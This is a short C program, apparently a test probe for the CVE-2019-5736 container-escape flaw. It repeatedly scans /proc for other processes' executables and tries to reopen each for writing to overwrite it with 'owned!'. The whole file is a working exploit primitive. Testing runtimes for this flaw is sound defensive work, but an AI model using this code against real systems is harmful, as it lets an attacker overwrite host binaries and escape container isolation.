// Tries to overwrite the program file of any process that appears in its PID namespace (CVE-2019-5736):
// collects descriptors of /proc/PID/exe that are not its own file, then reopens each for writing until
// argv[1] seconds are over. Prints "watching", "found LINK" for each foreign file and "wrote" if it could.
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

enum { kMaximum = 64 };

static int files[kMaximum];
static struct stat known[kMaximum];
static int count;

static void collect(const char* pid, const struct stat* own) {
  char name[64];
  char link[512];
  struct stat info;
  snprintf(name, sizeof name, "/proc/%.16s/exe", pid);
  int fd = open(name, O_RDONLY | O_CLOEXEC);
  if (fd < 0) return;
  if (fstat(fd, &info) != 0 || (info.st_dev == own->st_dev && info.st_ino == own->st_ino) || count == kMaximum) {
    close(fd);
    return;
  }
  for (int i = 0; i < count; ++i) {
    if (known[i].st_dev == info.st_dev && known[i].st_ino == info.st_ino) {
      close(fd);
      return;
    }
  }
  ssize_t size = readlink(name, link, sizeof link - 1);
  link[size < 0 ? 0 : size] = '\0';
  printf("found %s\n", link);
  known[count] = info;
  files[count++] = fd;
}

int main(int argc, char** argv) {
  time_t end = time(NULL) + (argc > 1 ? atoi(argv[1]) : 2);
  struct stat own;
  if (stat("/proc/self/exe", &own) != 0) return 2;
  setvbuf(stdout, NULL, _IONBF, 0);
  puts("watching");
  while (time(NULL) < end) {
    DIR* proc = opendir("/proc");
    struct dirent* entry;
    while (proc != NULL && (entry = readdir(proc)) != NULL) {
      if (entry->d_name[0] >= '1' && entry->d_name[0] <= '9') collect(entry->d_name, &own);
    }
    if (proc != NULL) closedir(proc);
    for (int i = 0; i < count; ++i) {
      char name[64];
      snprintf(name, sizeof name, "/proc/self/fd/%d", files[i]);
      int fd = open(name, O_WRONLY | O_CLOEXEC);
      if (fd < 0) continue;
      if (write(fd, "owned!", 6) == 6) puts("wrote");
      close(fd);
    }
  }
  return 0;
}
